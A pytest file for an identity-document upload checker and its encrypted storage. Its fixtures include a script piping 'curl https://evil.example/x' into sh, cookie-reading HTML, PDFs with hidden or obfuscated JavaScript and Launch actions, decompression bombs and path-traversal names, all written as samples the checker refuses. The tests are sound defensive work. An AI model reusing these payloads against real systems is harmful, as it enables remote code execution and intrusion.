"""Identity documents: type checks on real sample files, and encrypted storage."""

from __future__ import annotations

import base64
import gzip
import io
import os
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from privacy_center.config import (
    STATIC_DIR,
    ConfigurationError,
    document_key,
    load_config,
)
from privacy_center.document_sandbox import inspect_pdf
from privacy_center.letters.rendering import render_pdf
from privacy_center.uploads.checks import (
    ACCEPTED_MIME_TYPES,
    MAX_DOCUMENT_BYTES,
    check_identity_document,
)
from privacy_center.uploads.images import MAX_IMAGE_PIXELS
from privacy_center.uploads.pdf import MAX_PDF_UNPACKED_BYTES
from privacy_center.uploads.refusals import RejectedUpload
from privacy_center.uploads.storage import (
    DocumentNotFound,
    DocumentTampered,
    InvalidDocumentName,
    delete_document,
    read_document,
    store_document,
)

# --- Sample files, built here ---------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    """A real image; noise, so that its compressed data is not trivially short."""
    width, height = size
    channels = {"RGB": 3, "L": 1}[mode]
    image = Image.frombytes(mode, size, os.urandom(width * height * channels))
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_header(width: int, height: int) -> bytes:
    """A PNG whose header declares a size; its pixel data is a few bytes (a would-be bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def build_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def simple_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """Catalog, pages, one page with a drawing; ``more`` objects are numbered from 5."""
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s>>" % page_extra,
        stream(b"0 0 1 rg 20 20 160 160 re f"),
        *more,
    )


def object_stream_pdf(*extra_objects: bytes, catalog_extra: bytes = b"", hexed=False) -> bytes:
    """A PDF 1.5 file whose objects sit in a compressed object stream, found through a
    cross-reference stream; objects 1-3 are catalog, pages and page, then ``extra_objects``."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *extra_objects,
    ]
    header, body = b"", b""
    for number, obj in enumerate(inner, 1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    raw = header + body
    if hexed:  # a filter that only a full PDF parser decodes
        encoded = zlib.compress(raw).hex().encode() + b">"
        filters = b"[/ASCIIHexDecode /FlateDecode]"
    else:
        encoded, filters = zlib.compress(raw), b"/FlateDecode"
    objstm_number = len(inner) + 1
    xref_number = objstm_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n" % (
        objstm_number,
        len(inner),
        len(header),
        filters,
        len(encoded),
    )
    out += encoded + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    for index in range(len(inner)):
        rows += b"\x02" + struct.pack(">IH", objstm_number, index)
    rows += b"\x01" + struct.pack(">IH", objstm_offset, 0)
    rows += b"\x01" + struct.pack(">IH", xref_offset, 0)
    packed = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % (xref_number, xref_number + 1, len(packed))
    )
    out += packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pypdf_document(**changes: object) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if "javascript" in changes:
        writer.add_open_action(JavaScript(changes["javascript"]))
    if "attachment" in changes:
        writer.add_attachment("passport.txt", changes["attachment"])
    if "password" in changes:
        writer.encrypt(changes["password"], algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def rejection(filename: str, data: bytes) -> str:
    with pytest.raises(RejectedUpload) as caught:
        check_identity_document(filename, data)
    return str(caught.value)


# --- Accepted files -------------------------------------------------------------------------


def test_the_whitelist_is_pdf_jpeg_and_png():
    assert {"application/pdf", "image/jpeg", "image/png"} == ACCEPTED_MIME_TYPES


@pytest.mark.parametrize(
    ("filename", "data", "mime"),
    [
        ("passport.png", image_bytes("PNG"), "image/png"),
        ("passport.PNG", image_bytes("PNG", mode="L"), "image/png"),
        ("photo.jpg", image_bytes("JPEG"), "image/jpeg"),
        ("photo.jpeg", image_bytes("JPEG", mode="L"), "image/jpeg"),
        ("scan.pdf", simple_pdf(), "application/pdf"),
        ("scan.PDF", pypdf_document(), "application/pdf"),
        ("compressed.pdf", object_stream_pdf(), "application/pdf"),
        # The type comes from the content: a name without (or with another) extension is fine.
        ("scan", image_bytes("PNG"), "image/png"),
        ("C:\\Users\\me\\Documents\\id card", simple_pdf(), "application/pdf"),
        ("id.heic", image_bytes("JPEG"), "image/jpeg"),
    ],
)
def test_sound_documents_are_accepted_with_the_type_of_their_content(filename, data, mime):
    assert check_identity_document(filename, data) == mime


def test_real_world_pdfs_are_accepted():
    # A scanner's output: JPEG pages in a PDF (Pillow writes them like many scanners do).
    pages = [Image.frombytes("RGB", (300, 400), os.urandom(300 * 400 * 3)) for _ in range(2)]
    out = io.BytesIO()
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:])
    assert check_identity_document("scan.pdf", out.getvalue()) == "application/pdf"
    # A word processor's output: text with embedded fonts and compressed streams.
    letter = render_pdf(
        "<h1>Identity card</h1><p>Jane Doe, born 1 January 1990. "
        + "Lorem ipsum dolor sit amet. " * 200
        + "</p>"
    )
    assert check_identity_document("letter.pdf", letter) == "application/pdf"


def test_the_limits_are_inclusive():
    pdf = simple_pdf()
    padded = pdf + b"\n" * (MAX_DOCUMENT_BYTES - len(pdf))
    assert len(padded) == MAX_DOCUMENT_BYTES
    assert check_identity_document("large.pdf", padded) == "application/pdf"
    # 8000 x 5000 is exactly 40 megapixels: decoded, and accepted.
    image = Image.new("1", (8000, 5000))
    out = io.BytesIO()
    image.save(out, "PNG")
    assert MAX_IMAGE_PIXELS == 8000 * 5000
    assert check_identity_document("big.png", out.getvalue()) == "image/png"


def test_messages_work_outside_and_inside_an_application(app):
    outside = rejection("empty.pdf", b"")
    with app.test_request_context("/", headers={"Accept-Language": "en"}):
        inside = rejection("empty.pdf", b"")
    with app.test_request_context("/", headers={"Accept-Language": "fr"}):
        french = rejection("empty.pdf", b"")
    assert outside == inside
    assert "empty" in outside
    assert "vide" in french


# --- Size and name ----------------------------------------------------------------------------


def test_empty_file():
    message = rejection("passport.pdf", b"")
    assert "empty" in message and "Choose it again" in message


def test_file_over_ten_megabytes_says_the_limit():
    message = rejection("passport.pdf", b"%PDF-1.7\n" + b"0" * MAX_DOCUMENT_BYTES)
    assert "larger than 10 MB" in message and "lower resolution" in message


def test_text_named_pdf_says_what_the_name_claims():
    message = rejection("passport.pdf", b"This is my passport number: 12AB34567\n")
    assert "name ends in .pdf" in message and "not a PDF document" in message


@pytest.mark.parametrize(
    ("filename", "data", "claim"),
    [
        ("passport.jpg", image_bytes("PNG"), "ends in .jpg, but its content is not a JPEG"),
        ("passport.jpeg", simple_pdf(), "ends in .jpeg, but its content is not a JPEG"),
        ("passport.png", image_bytes("JPEG"), "ends in .png, but its content is not a PNG"),
        ("passport.pdf", image_bytes("PNG"), "ends in .pdf, but its content is not a PDF"),
        ("passport.png", image_bytes("GIF"), "ends in .png, but its content is not a PNG"),
    ],
)
def test_a_name_that_claims_another_type_is_refused(filename, data, claim):
    message = rejection(filename, data)
    assert claim in message and "right file" in message


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("passport.gif", image_bytes("GIF")),
        ("passport.bmp", image_bytes("BMP")),
        ("passport.webp", image_bytes("WEBP")),
        ("passport.tiff", image_bytes("TIFF")),
        ("notes.txt", b"plain text, not a document\n"),
    ],
)
def test_other_types_are_refused(filename, data):
    message = rejection(filename, data)
    assert "only PDF, JPEG or PNG" in message and "Convert it" in message


# --- Markup, programs, archives ---------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("passport.pdf", HTML),
        ("passport.html", HTML),
        ("passport.png", b"\xef\xbb\xbf\n  <html><body>hi</body></html>"),
        ("passport.pdf", "<html><body>ID</body></html>".encode("utf-16")),
    ],
)
def test_html_is_refused_whatever_its_name(filename, data):
    message = rejection(filename, data)
    assert "web page (HTML)" in message and "print it to PDF" in message


@pytest.mark.parametrize("filename", ["drawing.svg", "passport.png", "passport.pdf"])
def test_svg_is_refused_whatever_its_name(filename):
    message = rejection(filename, SVG)
    assert "SVG drawings are not accepted" in message and "Export the drawing" in message


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode."
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("passport.pdf", ELF),
        ("passport", ELF),
        ("passport.exe", PE),
        ("passport.pdf", PE),
        ("passport.jpg", MACH_O),
        ("passport.png", SCRIPT),
        ("run.sh", b"\xef\xbb\xbf" + SCRIPT),
    ],
)
def test_programs_and_scripts_are_refused(filename, data):
    message = rejection(filename, data)
    assert "program or a script" in message and "scan or a photo" in message


def tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        data = image_bytes("PNG")
        info = tarfile.TarInfo("passport.png")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("documents.zip", zip_bytes({"passport.png": image_bytes("PNG")})),
        ("passport.pdf", zip_bytes({"passport.pdf": simple_pdf()})),
        ("passport.png.gz", gzip.compress(image_bytes("PNG"))),
        ("passport.tar", tar_bytes()),
        ("passport.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64),
        ("passport.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64),
    ],
)
def test_archives_are_refused(filename, data):
    message = rejection(filename, data)
    assert "archives" in message and "out of the archive" in message


DOCX = zip_bytes(
    {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
)
ODT = zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("passport.docx", DOCX),
        ("passport.pdf", DOCX),
        ("passport.odt", ODT),
        ("passport.docx", zip_bytes({"anything.xml": b"<x/>"})),
    ],
)
def test_office_files_are_refused_with_the_advice_to_export_a_pdf(filename, data):
    message = rejection(filename, data)
    assert "office files" in message and "Export the document as PDF" in message


# --- Images -----------------------------------------------------------------------------------

DAMAGED_IMAGE = "The image is damaged or incomplete"


def test_truncated_png():
    png = image_bytes("PNG")
    assert DAMAGED_IMAGE in rejection("passport.png", png[: len(png) * 6 // 10])
    assert DAMAGED_IMAGE in rejection("passport.png", png[:-12])  # no IEND chunk


def test_truncated_jpeg():
    jpeg = image_bytes("JPEG")
    assert DAMAGED_IMAGE in rejection("passport.jpg", jpeg[: len(jpeg) * 6 // 10])
    assert DAMAGED_IMAGE in rejection("passport.jpg", jpeg[:-2])  # no end-of-image marker


def test_a_jpeg_is_complete_only_with_its_end_marker_after_the_last_scan():
    # Whatever the pixels, a cut anywhere after the scan began is refused (libjpeg would pad it).
    for _ in range(20):
        jpeg = image_bytes("JPEG")
        for cut in (len(jpeg) - 1, len(jpeg) * 9 // 10):
            assert DAMAGED_IMAGE in rejection("passport.jpg", jpeg[:cut])
    # Some phones write a trailer after the end marker: the photo is still whole.
    assert check_identity_document("photo.jpg", jpeg + b"TRAILER\x00\x01") == "image/jpeg"


def idat_span(png: bytes) -> tuple[int, int]:
    start = png.index(b"IDAT")
    (length,) = struct.unpack(">I", png[start - 4 : start])
    return start, length


def test_png_with_a_bad_checksum():
    png = bytearray(image_bytes("PNG"))
    start, _length = idat_span(bytes(png))
    png[start + 20] ^= 0xFF
    assert DAMAGED_IMAGE in rejection("passport.png", bytes(png))


def test_png_with_bad_data_and_a_matching_checksum():
    png = image_bytes("PNG")
    start, length = idat_span(png)
    chunk = bytearray(png[start : start + 4 + length])
    chunk[20] ^= 0xFF
    forged = png[:start] + bytes(chunk) + struct.pack(">I", zlib.crc32(bytes(chunk)))
    forged += png[start + 8 + length :]
    assert DAMAGED_IMAGE in rejection("passport.png", forged)


def test_truncated_images_are_refused_even_when_pillow_is_told_to_load_them():
    """WeasyPrint sets LOAD_TRUNCATED_IMAGES at import; the check does not depend on it and
    leaves it as it found it."""
    previous = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True
    try:
        jpeg = image_bytes("JPEG")
        assert DAMAGED_IMAGE in rejection("passport.jpg", jpeg[: len(jpeg) // 2])
        assert ImageFile.LOAD_TRUNCATED_IMAGES is True
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = previous


def test_image_over_forty_megapixels_is_refused_before_decoding():
    # 8000 x 5001 = 40,008,000 pixels: the header says so, and its data is only a few bytes
    # (decoding it would fail: it is refused for its size, not as damaged).
    message = rejection("passport.png", png_with_header(8000, 5001))
    assert "too many pixels" in message and "40 megapixels" in message


def test_a_real_image_over_forty_megapixels_is_refused():
    image = Image.new("1", (8000, 5001))
    out = io.BytesIO()
    image.save(out, "PNG")
    assert "too many pixels" in rejection("passport.png", out.getvalue())


@pytest.mark.parametrize("size", [(10_000, 10_000), (20_000, 20_000), (65_535, 65_535)])
def test_decompression_bombs_are_refused_without_any_warning(size):
    # 100 MP makes Pillow warn while opening, 400 MP and more makes it raise: neither escapes.
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        message = rejection("bomb.png", png_with_header(*size))
    assert "too many pixels" in message
    assert caught == []


# --- PDF --------------------------------------------------------------------------------------

JS_REFUSED = "The PDF contains JavaScript"
DAMAGED_PDF = "The PDF is damaged or incomplete"


def test_pdf_with_javascript_open_action():
    pdf = simple_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")
    message = rejection("passport.pdf", pdf)
    assert JS_REFUSED in message and "Print it to a new PDF" in message


def test_pdf_with_javascript_added_by_pypdf():
    assert JS_REFUSED in rejection("passport.pdf", pypdf_document(javascript="app.alert(1);"))


def test_pdf_with_obfuscated_javascript_name():
    pdf = simple_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")
    assert b"JavaScript" not in pdf and b"/JS" not in pdf
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_pdf_with_javascript_in_a_page_annotation():
    pdf = simple_pdf(
        b"",
        b"/Annots [5 0 R] ",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /JavaScript "
        b"/JS <6170702e616c657274283129> >> >>",
    )
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_pdf_with_javascript_in_additional_actions():
    pdf = simple_pdf(b"", b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> ")
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_pdf_with_javascript_inside_a_compressed_object_stream():
    pdf = object_stream_pdf(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalog_extra=b"/OpenAction 4 0 R "
    )
    assert b"JavaScript" not in pdf  # only visible once the object stream is unpacked
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def findings(pdf: bytes) -> frozenset[str]:
    """What the sandboxed inspection (document_worker.py, in its own process) finds."""
    return inspect_pdf(pdf).findings


def test_the_inspection_finds_javascript_in_an_object_stream_under_an_escaped_name():
    pdf = object_stream_pdf(
        b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>", catalog_extra=b"/OpenAction 4 0 R "
    )
    assert findings(pdf) == {"javascript"}


def test_javascript_hidden_behind_a_filter_chain_is_found():
    pdf = object_stream_pdf(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        catalog_extra=b"/OpenAction 4 0 R ",
        hexed=True,
    )
    # qpdf decodes the whole filter chain (hex, then Flate) before the objects are read.
    assert findings(pdf) == {"javascript"}
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_javascript_in_an_unlisted_object_stream_is_found_in_the_decoded_stream():
    hidden = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    pdf = simple_pdf(
        b"",
        b"",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\n"
        b"endstream" % (len(hidden), hidden),
    )
    assert b"JavaScript" not in pdf
    # No cross-reference entry points into that object stream: object 9 is never parsed, but
    # every stream's decoded content is searched for the names too.
    assert findings(pdf) == {"javascript"}
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_pdf_with_javascript_in_the_names_tree():
    pdf = simple_pdf(
        b"/Names << /JavaScript << /Names [(start) 5 0 R] >> >> ",
        b"",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )
    assert JS_REFUSED in rejection("passport.pdf", pdf)


def test_pdf_with_a_launch_action():
    pdf = simple_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >> ")
    message = rejection("passport.pdf", pdf)
    assert "starts another program" in message


def test_pdf_with_an_obfuscated_launch_action():
    pdf = simple_pdf(b"/OpenAction << /S /#4C#61unch /F (calc.exe) >> ")
    assert "starts another program" in rejection("passport.pdf", pdf)


def test_pdf_with_an_embedded_file():
    message = rejection("passport.pdf", pypdf_document(attachment=b"secret"))
    assert "attached files" in message and "own PDF, JPEG or PNG" in message


def test_pdf_with_a_file_attachment_annotation():
    pdf = simple_pdf(
        b"",
        b"/Annots [5 0 R] ",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
        b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        stream(b"MZ", b"/Type /EmbeddedFile "),
    )
    assert "attached files" in rejection("passport.pdf", pdf)


def test_encrypted_pdf():
    message = rejection("passport.pdf", pypdf_document(password="secret"))
    assert "protected by a password or encrypted" in message and "Remove" in message


def test_pdf_encrypted_with_an_empty_password_is_refused_too():
    assert "encrypted" in rejection("passport.pdf", pypdf_document(password=""))


def test_truncated_pdf():
    pdf = simple_pdf()
    message = rejection("passport.pdf", pdf[: len(pdf) // 2])
    assert DAMAGED_PDF in message and "Save or export it again" in message


def test_truncated_pdf_made_by_pypdf():
    pdf = pypdf_document()
    assert DAMAGED_PDF in rejection("passport.pdf", pdf[:-200])


def test_pdf_with_data_appended_after_its_end():
    pdf = simple_pdf() + zip_bytes({"payload.exe": ELF})
    assert DAMAGED_PDF in rejection("passport.pdf", pdf)


def test_pdf_that_is_only_a_header_and_an_end():
    assert DAMAGED_PDF in rejection("passport.pdf", b"%PDF-1.7\ngarbage\n%%EOF\n")


def test_pdf_whose_stream_unpacks_to_too_much_is_refused():
    bomb = zlib.compress(b" " * (MAX_PDF_UNPACKED_BYTES + 1), 9)
    pdf = simple_pdf(b"", b"", stream(bomb, b"/Filter /FlateDecode "))
    assert len(pdf) < MAX_DOCUMENT_BYTES
    assert "too complex to be checked" in rejection("passport.pdf", pdf)


def test_text_that_merely_mentions_javascript_is_accepted():
    # A word in a text string is not a PDF name.
    pdf = simple_pdf(b"", b"", b"<< /Title (How JavaScript and JS work) >>")
    assert check_identity_document("passport.pdf", pdf) == "application/pdf"


# --- Encrypted storage ------------------------------------------------------------------------

KEY = bytes(range(32))
DOCUMENT = b"%PDF-1.7 passport of Jane Doe, number 12AB34567 " * 20


def test_round_trip(tmp_path):
    name = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    assert read_document(name, directory=tmp_path, key=KEY) == DOCUMENT


def test_stored_file_is_ciphertext_under_a_random_name(tmp_path):
    first = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    second = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    assert first != second and len(first) == 43
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([first, second])
    one, two = (tmp_path / first).read_bytes(), (tmp_path / second).read_bytes()
    assert one != two  # random nonce
    for sealed in (one, two):
        assert DOCUMENT not in sealed
        for offset in range(0, len(DOCUMENT) - 8, 8):
            assert DOCUMENT[offset : offset + 8] not in sealed


def test_files_are_private(tmp_path):
    directory = tmp_path / "deep" / "identity-documents"
    name = store_document(DOCUMENT, directory=directory, key=KEY)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert stat.S_IMODE((directory / name).stat().st_mode) == 0o600


def test_tampering_is_detected(tmp_path):
    name = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    path = tmp_path / name
    sealed = bytearray(path.read_bytes())
    sealed[40] ^= 0x01
    path.write_bytes(bytes(sealed))
    with pytest.raises(DocumentTampered, match="integrity check"):
        read_document(name, directory=tmp_path, key=KEY)


@pytest.mark.parametrize("cut", [1, 20, 100_000])
def test_a_cut_file_is_detected(tmp_path, cut):
    name = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    path = tmp_path / name
    path.write_bytes(path.read_bytes()[:-cut])
    with pytest.raises(DocumentTampered):
        read_document(name, directory=tmp_path, key=KEY)


def test_a_document_renamed_to_another_name_is_detected(tmp_path):
    victim = store_document(b"the real document", directory=tmp_path, key=KEY)
    forged = store_document(b"a forged document", directory=tmp_path, key=KEY)
    os.replace(tmp_path / forged, tmp_path / victim)
    with pytest.raises(DocumentTampered):
        read_document(victim, directory=tmp_path, key=KEY)


def test_wrong_key_is_rejected(tmp_path):
    name = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    with pytest.raises(DocumentTampered, match="another key"):
        read_document(name, directory=tmp_path, key=bytes(32))


@pytest.mark.parametrize("key", [b"", bytes(16), bytes(31), "0" * 32])
def test_keys_must_be_32_bytes(tmp_path, key):
    with pytest.raises(ValueError, match="32 bytes"):
        store_document(DOCUMENT, directory=tmp_path, key=key)
    assert not any(tmp_path.iterdir())


@pytest.mark.parametrize(
    "name",
    [
        "",
        "..",
        "../secret",
        "../../etc/passwd",
        "/etc/passwd",
        "a/b",
        "passport.pdf",
        "A" * 42,
        "A" * 44,
        "A" * 42 + "/",
        "A" * 42 + "\x00",
        ".partial" + "A" * 35,
        None,
    ],
)
def test_names_that_are_not_stored_names_are_refused(tmp_path, name):
    directory = tmp_path / "documents"
    store_document(DOCUMENT, directory=directory, key=KEY)
    outside = tmp_path / "secret"
    outside.write_bytes(b"not yours")
    with pytest.raises(InvalidDocumentName):
        read_document(name, directory=directory, key=KEY)
    with pytest.raises(InvalidDocumentName):
        delete_document(name, directory=directory)
    assert outside.read_bytes() == b"not yours"


def test_a_symbolic_link_is_not_followed(tmp_path):
    directory = tmp_path / "documents"
    name = store_document(DOCUMENT, directory=directory, key=KEY)
    (directory / name).unlink()
    (directory / name).symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").write_bytes(b"x" * 100)
    with pytest.raises(DocumentTampered, match="symbolic link"):
        read_document(name, directory=directory, key=KEY)


def test_delete_is_idempotent(tmp_path):
    name = store_document(DOCUMENT, directory=tmp_path, key=KEY)
    assert delete_document(name, directory=tmp_path) is True
    assert delete_document(name, directory=tmp_path) is False
    assert not (tmp_path / name).exists()
    with pytest.raises(DocumentNotFound):
        read_document(name, directory=tmp_path, key=KEY)


def test_a_failure_while_writing_leaves_no_file(tmp_path, monkeypatch):
    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(OSError, match="No space left"):
        store_document(DOCUMENT, directory=tmp_path, key=KEY)
    assert list(tmp_path.iterdir()) == []


def test_a_directory_that_cannot_be_created_leaves_no_file(tmp_path):
    blocker = tmp_path / "not-a-directory"
    blocker.write_bytes(b"")
    with pytest.raises(OSError):
        store_document(DOCUMENT, directory=blocker / "documents", key=KEY)
    assert [path.name for path in tmp_path.iterdir()] == ["not-a-directory"]
    with pytest.raises(OSError):
        store_document(DOCUMENT, directory=blocker, key=KEY)
    assert blocker.read_bytes() == b""


# --- Configuration ----------------------------------------------------------------------------


def urlsafe(key: bytes) -> str:
    return base64.urlsafe_b64encode(key).decode()


@pytest.fixture
def production_env(monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "s" * 40)
    monkeypatch.setenv("TRUSTED_HOSTS", "privacy.example")
    monkeypatch.delenv("PC_IDENTITY_DOCUMENT_KEY", raising=False)
    monkeypatch.delenv("PC_IDENTITY_DOCUMENT_DIR", raising=False)
    # The prepared exports have a key of their own, also required in production.
    monkeypatch.setenv("PC_EXPORT_KEY", urlsafe(os.urandom(32)))
    monkeypatch.setenv("PC_AUDIT_KEY", urlsafe(os.urandom(32)))  # and the audit log's
    return monkeypatch


def test_production_refuses_to_start_without_the_key(production_env, tmp_path):
    with pytest.raises(ConfigurationError, match="PC_IDENTITY_DOCUMENT_KEY"):
        load_config("production", str(tmp_path))


@pytest.mark.parametrize("value", ["short", urlsafe(bytes(16)), "not base64 at all!" * 3])
def test_production_refuses_a_malformed_key(production_env, tmp_path, value):
    production_env.setenv("PC_IDENTITY_DOCUMENT_KEY", value)
    with pytest.raises(ConfigurationError, match="32"):
        load_config("production", str(tmp_path))


def test_production_reads_the_key_and_the_directory(production_env, tmp_path):
    key = os.urandom(32)
    production_env.setenv("PC_IDENTITY_DOCUMENT_KEY", urlsafe(key))
    config = load_config("production", str(tmp_path))
    assert key == config.IDENTITY_DOCUMENT_KEY
    assert document_key(vars(config)) == key
    assert Path(config.IDENTITY_DOCUMENT_DIR) == (tmp_path / "identity-documents").resolve()
    production_env.setenv("PC_IDENTITY_DOCUMENT_KEY", urlsafe(key).rstrip("="))
    assert key == load_config("production", str(tmp_path)).IDENTITY_DOCUMENT_KEY


def test_the_directory_may_not_be_under_the_static_folder(production_env, tmp_path):
    production_env.setenv("PC_IDENTITY_DOCUMENT_KEY", urlsafe(os.urandom(32)))
    production_env.setenv("PC_IDENTITY_DOCUMENT_DIR", str(STATIC_DIR / "uploads"))
    with pytest.raises(ConfigurationError, match="static"):
        load_config("production", str(tmp_path))


def test_development_creates_a_private_key_file_once(production_env, tmp_path):
    instance = tmp_path / "instance"
    first = load_config("development", str(instance))
    key_file = instance / "identity-document-key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert base64.urlsafe_b64decode(key_file.read_text().strip()) == first.IDENTITY_DOCUMENT_KEY
    assert len(first.IDENTITY_DOCUMENT_KEY) == 32
    assert load_config("development", str(instance)).IDENTITY_DOCUMENT_KEY == (
        first.IDENTITY_DOCUMENT_KEY
    )
    assert [path.name for path in instance.iterdir() if path.name.startswith(".")] == []


def test_development_uses_the_environment_key_when_given(production_env, tmp_path):
    key = os.urandom(32)
    production_env.setenv("PC_IDENTITY_DOCUMENT_KEY", urlsafe(key))
    assert key == load_config("development", str(tmp_path)).IDENTITY_DOCUMENT_KEY
    assert not (tmp_path / "identity-document-key").exists()


def test_test_config_has_one_random_key_per_process(production_env, tmp_path, app):
    first = load_config("test", str(tmp_path))
    second = load_config("test", str(tmp_path / "other"))
    assert first.IDENTITY_DOCUMENT_KEY == second.IDENTITY_DOCUMENT_KEY
    assert len(first.IDENTITY_DOCUMENT_KEY) == 32
    assert not (tmp_path / "identity-document-key").exists()
    assert document_key(app.config) == first.IDENTITY_DOCUMENT_KEY
    # The application's settings work with the storage as they are.
    directory = Path(app.config["IDENTITY_DOCUMENT_DIR"])
    name = store_document(b"scan", directory=directory, key=document_key(app.config))
    try:
        assert read_document(name, directory=directory, key=document_key(app.config)) == b"scan"
    finally:
